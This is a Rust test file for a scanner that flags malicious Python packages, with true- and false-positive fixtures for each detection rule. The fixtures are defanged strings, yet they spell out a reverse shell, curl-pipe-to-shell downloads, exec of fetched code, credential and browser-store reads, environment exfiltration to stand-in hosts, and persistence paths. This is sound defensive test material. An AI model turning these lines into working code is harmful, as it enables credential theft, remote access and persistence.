//! Every rule of `extension/findings/rules.toml` has a true-positive and a
//! false-positive fixture here. Fixtures are defanged: endpoints are `.invalid`
//! or documentation addresses (RFC 2606 / RFC 5737), secrets are obviously
//! fake, and nothing here is a working payload; they are strings that a
//! scanner reads, never code that anything runs.

use squatch::findings::{scan_source_with_floor, Role, RuleSet, Severity};

struct Case {
    id: &'static str,
    role: Role,
    tp: String,
    fp: String,
}

fn case(id: &'static str, role: Role, tp: &str, fp: &str) -> Case {
    Case {
        id,
        role,
        tp: tp.to_string(),
        fp: fp.to_string(),
    }
}

/// A deterministic base64-looking blob (not data of anything).
fn fake_blob(len: usize) -> String {
    const ALPHA: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut x: u32 = 12345;
    (0..len)
        .map(|_| {
            x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
            ALPHA[((x >> 16) % 64) as usize] as char
        })
        .collect()
}

fn filler(n: usize) -> String {
    (0..n).map(|i| format!("value_{i} = {i}\n")).collect()
}

fn cases() -> Vec<Case> {
    use Role::*;
    let m = Module;
    let i = Install;
    vec![
        case(
            "cred-discord-grabber",
            m,
            r#"regex = r"dQw4w9WgXcQ:[^\"]*""#,
            r#"token = getenv("TQDM_DISCORD_TOKEN")"#,
        ),
        case(
            "exfil-discord-webhook",
            m,
            r#"HOOK = "https://discord.com/api/webhooks/0000/FAKE-EXAMPLE""#,
            r#"DOCS = "https://discord.com/developers/docs""#,
        ),
        case("cred-env-token", m, r#"key = os.environ["AWS_SECRET_ACCESS_KEY"]"#, "def load(hf_token=None, azure_client_secret=None):"),
        case(
            "cred-env-name",
            m,
            r#"NAMES = ["AWS_ACCESS_KEY_ID", "HF_TOKEN"]"#,
            "hf_token = None",
        ),
        case("cred-file", m, r#"creds = open(os.path.expanduser("~/.aws/credentials")).read()"#, "from sympy.crypto import kid_rsa_private_key"),
        case("cred-env-dump", m, "payload = json.dumps(dict(os.environ))", r#"home = os.environ.get("HOME")"#),
        case("cred-browser-store", m, r#"path = local + "\\Google\\Chrome\\User Data\\Default\\Login Data""#, r#"label = "login data""#),
        case("exfil-webhook", m, r#"HOOK = "https://webhook.site/00000000-fake""#, r#"DOCS = "https://example.com/webhooks/docs""#),
        case("exfil-discord-webhook", m, r#"HOOK = "https://discord.com/api/webhooks/0000/FAKE-EXAMPLE""#, r#"DOCS = "https://discord.com/developers/docs""#),
        case("cred-discord-grabber", m, r#"pattern = r"dQw4w9WgXcQ:[^"]*""#, r#"token = getenv("TQDM_DISCORD_TOKEN")"#),
        case("exfil-telegram-bot", m, r#"u = "https://api.telegram.org/bot123456789:FAKEexampleTOKEN/sendMessage""#, "API = 'https://api.telegram.org/bot'"),
        case("exfil-http", m, "requests.post(URL, data=d)", "session_id = make_post_id()"),
        case("exfil-socket", m, "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)", "kind = socket.SOCK_STREAM"),
        case("exfil-dns", m, r#"socket.gethostbyname(chunk + ".collector.invalid")"#, "from typing import Mapping"),
        case("exfil-dns-shell", m, r#"os.system("ping %s" % domain)"#, r#"mapping = {"a": 1}"#),
        case("exfil-mail-ftp", m, r#"server = smtplib.SMTP("mail.invalid", 587)"#, "import email.message"),
        case("exfil-raw-ip-url", m, r#"URL = "http://203.0.113.7:8080/upload""#, r#"URL = "http://127.0.0.1:8080/health""#),
        case("recon-host-info", m, "user = getpass.getuser()", "name = get_user_name()"),
        case("recon-ip-lookup", m, r#"ip = requests.get("https://api.ipify.org").text"#, "ip = socket.inet_aton(addr)"),
        case("dl-shell-pipe", m, r#"os.system("curl -s https://payload.invalid/x.sh | sh")"#, r#"os.system("curl https://sh.rustup.rs -sSf | sh")"#),
        case("dl-tool", m, r#"os.system("wget https://payload.invalid/b -O /tmp/b")"#, r#"print("download it with your browser")"#),
        case("proc-make-executable", m, "os.chmod(p, st.st_mode | stat.S_IEXEC)", "os.chmod(p, 0o644)"),
        case("dl-executable-url", m, r#"url = "https://payload.invalid/update.exe""#, r#"url = "https://github.com/org/tool/releases/download/v1/tool.exe""#),
        case("dl-exec-remote", m, r#"exec(requests.get("https://payload.invalid/stage2").text)"#, "value = ast.literal_eval(requests_text)"),
        case("dl-content-fetch", m, "body = urlopen(url).read()", "body = open(path).read()"),
        case("obf-exec-decode", m, "exec(base64.b64decode(BLOB))", r#"pattern = re.compile(r"[\x00-\x1f]")"#),
        case("obf-process-decode", m, "os.system(base64.b64decode(cmd))", "os.system(cmd)"),
        case("obf-xor-decode", m, "out += chr(ord(c) ^ ord(k))", "out += chr(ord(c) + 1)"),
        case("obf-chr-join", m, "s = ''.join([chr(c) for c in CODES])", "s = ''.join(parts)"),
        case("obf-globals-indirection", m, "f = getattr(globals()[name], attr)", "f = getattr(module, attr)"),
        case("obf-js-mangled", m, "JS = 'var _0x327ff6=_0x11d4;'", "JS = 'var x = 1;'"),
        case("obf-decode", m, "data = base64.b64decode(s)", "data = base64.b64encode(s)"),
        case("obf-exec", m, "exec(code)", "cursor.execute(sql)"),
        case("obf-builtins-indirection", m, r#"f = getattr(__builtins__, "ex" + "ec")"#, "if inspect.isclass(getattr(builtins, name, None)):"),
        case("obf-lambda-packer", m, "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]))", "key = lambda item: item[0]"),
        case("obf-pyarmor", m, "from pytransform import pyarmor_runtime", "armor = load_armor_config()"),
        case("obf-powershell-encoded", m, r#"subprocess.Popen("powershell -EncodedCommand RkFLRQ==")"#, r#"cmd = ["powershell", "-NoProfile", "-Command", "Get-Date"]"#),
        Case {
            id: "obf-long-blob",
            role: m,
            tp: format!("BLOB = \"{}\"", fake_blob(600)),
            fp: format!("PAD = \"{}\"\nTEXT = \"{}\"", "A".repeat(600), "lorem ipsum ".repeat(60)),
        },
        Case {
            id: "obf-hex-escapes",
            role: m,
            tp: format!("s = \"{}\"", "\\x65\\x78".repeat(25)),
            fp: "s = \"\\x00\\x01\\x02\"".to_string(),
        },
        case("obf-bidi-characters", m, "access = \"user\u{202e} \u{2066}// admin\"", "name = \"caf\u{e9}\""),
        case("proc-spawn", m, r#"subprocess.Popen(["ls"])"#, "popen_count = 0"),
        case("proc-hidden", m, "subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)", "subprocess.Popen(cmd)"),
        case("proc-reverse-shell", m, r#"os.system("bash -i >& /dev/tcp/198.51.100.1/4444 0>&1")"#, r#"os.system("bash -c true")"#),
        case("proc-runtime-pip", m, r#"subprocess.call([sys.executable, "-m", "pip", "install", "x"])"#, "import pipes"),
        case("fs-write", m, "f.write(data)", "data = f.read()"),
        case("persist-pth-write", m, r#"open(os.path.join(site, "evil_init.pth"), "w").write(line)"#, r#"paths = glob.glob("*.pth")"#),
        case("persist-sitecustomize-write", m, r#"shutil.copy(src, os.path.join(site, "sitecustomize.py"))"#, r#"doc = "see sitecustomize.py""#),
        case("persist-preload", m, r#"open("/etc/ld.so.preload", "a")"#, "conf = read_ld_so_conf()"),
        case("persist-ld-preload-env", m, r#"env["LD_PRELOAD"] = lib"#, r#"env["LD_LIBRARY_PATH"] = lib"#),
        case("persist-system", m, r#"os.system("crontab -l")"#, r#"schedule = "every hour""#),
        case("persist-system-write", m, r#"open(os.path.expanduser("~/.bashrc"), "a").write(line)"#, r#"rc = open(os.path.expanduser("~/.bashrc"), "r")"#),
        case("persist-windows-run", m, r#"key = r"Software\Microsoft\Windows\CurrentVersion\Run""#, r#"key = r"Software\Microsoft\Windows\CurrentVersion""#),
        case("persist-browser-extension", m, r#"args = "--load-extension=" + ext_dir"#, r#"args = "--disable-extensions""#),
        case("persist-modprobe", m, r#"open("/etc/modprobe.d/nvidia.conf", "w")"#, r#"subprocess.run(["modprobe", "-n", "nvidia"])"#),
        case("gpu-driver-path", m, r#"v = open("/proc/driver/nvidia/version").read()"#, "import pynvml"),
        case("gpu-driver-write", m, r#"open("/usr/share/vulkan/icd.d/nvidia_icd.json", "w").write(x)"#, r#"open("/usr/share/vulkan/icd.d/nvidia_icd.json", "r")"#),
        case("gpu-cuda-injection", m, r#"os.environ["CUDA_INJECTION64_PATH"] = "/tmp/libfake.so""#, r#"os.environ["CUDA_VISIBLE_DEVICES"] = "0""#),
        case("mining", m, r#"pool = "stratum+tcp://pool.invalid:3333""#, r#"strategy = "tcp""#),
        case("install-suspicious-import", i, "import socket", "import setuptools"),
        case("hook-install-override", i, "class PostInstall(install):", "class BuildExt(build_ext):"),
        // Role-restricted rules: the look-alike is the same line where it does not run at install.
        Case {
            id: "hook-cmdclass",
            role: i,
            tp: r#"setup(cmdclass={"build_ext": BuildExt})"#.into(),
            fp: String::new(),
        },
        case("hook-in-tree-backend", Config, r#"backend-path = ["_build"]"#, r#"build-backend = "setuptools.build_meta""#),
        Case {
            id: "install-network",
            role: i,
            tp: r#"urlopen("https://collector.invalid")"#.into(),
            fp: String::new(),
        },
        case(
            "combo-credential-exfiltration",
            m,
            "k = os.environ[\"AWS_SECRET_ACCESS_KEY\"]\nrequests.post(\"https://collector.invalid\", data=k)\n",
            &format!("k = os.environ[\"AWS_SECRET_ACCESS_KEY\"]\n{}requests.post(\"https://api.example.com\", data=d)\n", filler(200)),
        ),
        case("combo-endpoint-send", m, "h = \"https://webhook.site/0000\"\nrequests.post(h, json=d)\n", "h = \"https://webhook.site/0000\"\n"),
        case("combo-environment-exfiltration", m, "d = dict(os.environ)\nrequests.post(U, json=d)\n", "env = os.environ.copy()\nsubprocess.run(cmd, env=env)\n"),
        case(
            "combo-dns-beacon",
            m,
            "h = os.uname().nodename\nos.system(\"ping \" + h + \".collector.invalid\")\n",
            "h = os.uname().nodename\nprint(h)\n",
        ),
        case("combo-host-beacon", m, "h = socket.gethostname()\nurlopen(\"https://collector.invalid/?h=\" + h)\n", "h = socket.gethostname()\nlogger.info(h)\n"),
        case(
            "combo-download-execute",
            m,
            "urlretrieve(\"https://payload.invalid/b\", \"/tmp/b\")\nos.system(\"/tmp/b\")\n",
            &format!("urlretrieve(u, \"data.csv\")\n{}subprocess.run([\"ls\"])\n", filler(30)),
        ),
        case("combo-decode-execute", m, "code = base64.b64decode(BLOB)\nexec(code)\n", "code = base64.b64decode(BLOB)\nprint(len(code))\n"),
        case(
            "combo-install-hook-network",
            i,
            "class P(install):\n    def run(self):\n        urlopen(\"https://collector.invalid\")\n",
            "class P(build_py):\n    def run(self):\n        urlopen(\"https://collector.invalid\")\n",
        ),
        case(
            "combo-install-hook-process",
            i,
            "class P(install):\n    def run(self):\n        subprocess.call([\"sh\", \"x.sh\"])\n",
            "version = subprocess.check_output([\"git\", \"describe\"])\n",
        ),
        case(
            "combo-gpu-persistence",
            m,
            "p = \"/etc/nvidia-container-runtime/config.toml\"\nwith open(p, \"a\") as f:\n    f.write(hook)\n",
            &format!("p = \"/proc/driver/nvidia/version\"\n{}f.write(x)\n", filler(20)),
        ),
    ]
}

fn ids(src: &str, role: Role) -> Vec<String> {
    scan_source_with_floor(RuleSet::builtin(), src.as_bytes(), role, Severity::Info)
        .findings
        .into_iter()
        .map(|f| f.rule_id)
        .collect()
}

#[test]
fn every_rule_and_combo_has_fixtures() {
    let cases = cases();
    let missing: Vec<&str> = RuleSet::builtin()
        .ids()
        .into_iter()
        .filter(|id| !cases.iter().any(|c| c.id == *id))
        .collect();
    assert!(missing.is_empty(), "rules without fixtures: {missing:?}");
}

#[test]
fn true_positives_fire() {
    let mut failures = Vec::new();
    for c in cases() {
        let got = ids(&c.tp, c.role);
        if !got.iter().any(|g| g == c.id) {
            failures.push(format!("{}: {:?} gave {got:?}", c.id, c.tp));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn false_positives_do_not_fire() {
    let mut failures = Vec::new();
    for c in cases() {
        if c.fp.is_empty() {
            continue;
        }
        let got = ids(&c.fp, c.role);
        if got.iter().any(|g| g == c.id) {
            failures.push(format!("{}: {:?} gave {got:?}", c.id, c.fp));
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

#[test]
fn role_restricted_rules_stay_in_their_role() {
    // The true positives of install-only rules do not fire in a plain module.
    for id in ["hook-cmdclass", "install-network", "hook-install-override"] {
        let c = cases().into_iter().find(|c| c.id == id).unwrap();
        assert!(
            !ids(&c.tp, Role::Module).iter().any(|g| g == id),
            "{id} fired in a module"
        );
    }
    // Build configuration is not code: CI snippets in pyproject.toml do not fire.
    let ci = r#"before-build = "curl https://payload.invalid/x.sh | sh""#;
    assert!(ids(ci, Role::Config).is_empty());
}

#[test]
fn comments_and_calls_with_a_space_are_handled() {
    assert!(ids("# exec(base64.b64decode(x))", Role::Install).is_empty());
    assert!(ids("body = urlopen (url).read ()", Role::Module)
        .iter()
        .any(|g| g == "dl-content-fetch"));
}

#[test]
fn severity_weighs_where_code_runs() {
    let src = r#"urlopen("https://collector.invalid/?u=" + getpass.getuser())"#;
    let sev = |role| {
        scan_source_with_floor(RuleSet::builtin(), src.as_bytes(), role, Severity::Info)
            .findings
            .iter()
            .find(|f| f.rule_id == "combo-host-beacon")
            .map(|f| f.severity)
    };
    // The line carries both tags but from two different rules: a beacon.
    assert_eq!(sev(Role::Install), Some(Severity::High));
    assert_eq!(sev(Role::Peripheral), Some(Severity::Low));
    // A long SDK module weighs a co-occurrence one level lower than a short one.
    let long = format!("{}{src}\n", filler(500));
    let f = scan_source_with_floor(
        RuleSet::builtin(),
        long.as_bytes(),
        Role::Module,
        Severity::Info,
    );
    let beacon = f
        .findings
        .iter()
        .find(|f| f.rule_id == "combo-host-beacon")
        .unwrap();
    assert_eq!(beacon.severity, Severity::Medium);
}

#[test]
fn reading_hf_token_like_huggingface_hub_is_not_high() {
    let src = "import os\n\ndef get_token():\n    token = os.environ.get(\"HF_TOKEN\")\n    if token is None:\n        path = os.path.expanduser(\"~/.cache/huggingface/token\")\n        if os.path.exists(path):\n            token = open(path).read().strip()\n    return token\n";
    for role in [Role::Module, Role::Import] {
        let scan = squatch::findings::scan_source(RuleSet::builtin(), src.as_bytes(), role);
        assert!(
            scan.findings.iter().all(|f| f.severity < Severity::High),
            "{role:?}: {:?}",
            scan.findings
        );
    }
}

#[test]
fn evidence_never_carries_a_secret() {
    let src = "k = 'AKIAIOSFODNN7EXAMPLE'\ns = 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY'\nt = 'hf_FAKEexampleTOKENabcdefghijklmnopqrst'\nrequests.post('https://collector.invalid', data={'AWS_ACCESS_KEY_ID': k, 'AWS_SECRET_ACCESS_KEY': s, 'HF_TOKEN': t})\n";
    let scan = scan_source_with_floor(
        RuleSet::builtin(),
        src.as_bytes(),
        Role::Install,
        Severity::Info,
    );
    assert!(!scan.findings.is_empty());
    for f in &scan.findings {
        for secret in ["AKIAIOSFODNN7EXAMPLE", "wJalrXUtnFEMI", "hf_FAKEexample"] {
            assert!(
                !f.evidence.contains(secret),
                "{}: {}",
                f.rule_id,
                f.evidence
            );
        }
    }
}

#[test]
fn binary_and_huge_inputs_are_bounded() {
    let mut bin = b"exec(base64.b64decode(x))\n".to_vec();
    bin.push(0);
    let scan = squatch::findings::scan_source(RuleSet::builtin(), &bin, Role::Install);
    assert!(scan.binary && scan.findings.is_empty());
    let huge = "x = 1\n".repeat(1_000_000);
    let scan = squatch::findings::scan_source(RuleSet::builtin(), huge.as_bytes(), Role::Module);
    assert!(scan.truncated);
}
